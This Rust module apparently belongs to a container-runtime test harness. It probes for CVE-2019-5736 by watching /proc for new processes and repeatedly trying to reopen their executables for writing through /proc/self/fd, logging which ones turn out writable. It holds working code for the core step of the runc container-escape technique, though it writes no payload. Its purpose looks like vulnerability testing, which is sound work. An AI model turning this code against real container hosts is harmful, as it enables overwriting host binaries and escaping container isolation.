//! The attacker of CVE-2019-5736: waits for newcomers in its pid namespace and goes for their
//! programs.

use crate::act::Done;
use rustix::fs::{Mode, OFlags, fstat, open};
use std::collections::BTreeSet;
use std::fs::{self, OpenOptions};
use std::io::Write as _;
use std::time::{Duration, Instant};

/// For each new process: opens its program as a path, notes what that is, and tries for a while
/// to open the same file for writing. One line each: number, device:inode, name, outcome.
pub(crate) fn programs(log: &str) -> Done {
    let Ok(mut log) = OpenOptions::new().create(true).append(true).open(log) else {
        return Done::Code(1);
    };
    let own = std::process::id();
    let mut seen = BTreeSet::new();
    loop {
        for pid in pids().filter(|pid| *pid != own) {
            let Some((identity, name, is_writable)) = attack(pid) else {
                continue;
            };
            // A process changes its program by execve: each pair counts once.
            if seen.insert((pid, identity.clone())) || is_writable {
                let outcome = if is_writable { "WRITABLE" } else { "refused" };
                let _ = writeln!(log, "{pid} {identity} {name} {outcome}");
            }
        }
    }
}

/// The numbers of the processes in this pid namespace.
pub(crate) fn pids() -> impl Iterator<Item = u32> {
    fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|entry| entry.file_name().to_str()?.parse().ok())
}

fn attack(pid: u32) -> Option<(String, String, bool)> {
    let path = format!("/proc/{pid}/exe");
    let handle = open(path.as_str(), OFlags::PATH | OFlags::CLOEXEC, Mode::empty()).ok()?;
    let stat = fstat(&handle).ok()?;
    let name = fs::read_link(&path).ok()?.display().to_string();
    let number = std::os::fd::AsRawFd::as_raw_fd(&handle);
    let again = format!("/proc/self/fd/{number}");
    let end = Instant::now() + Duration::from_millis(3);
    let mut is_writable = false;
    // Busy (ETXTBSY) while it runs: that is why the attack waits for the runtime to move on.
    while !is_writable && Instant::now() < end {
        is_writable = open(
            again.as_str(),
            OFlags::WRONLY | OFlags::CLOEXEC,
            Mode::empty(),
        )
        .is_ok();
    }
    Some((
        format!("{}:{}", stat.st_dev, stat.st_ino),
        name,
        is_writable,
    ))
}
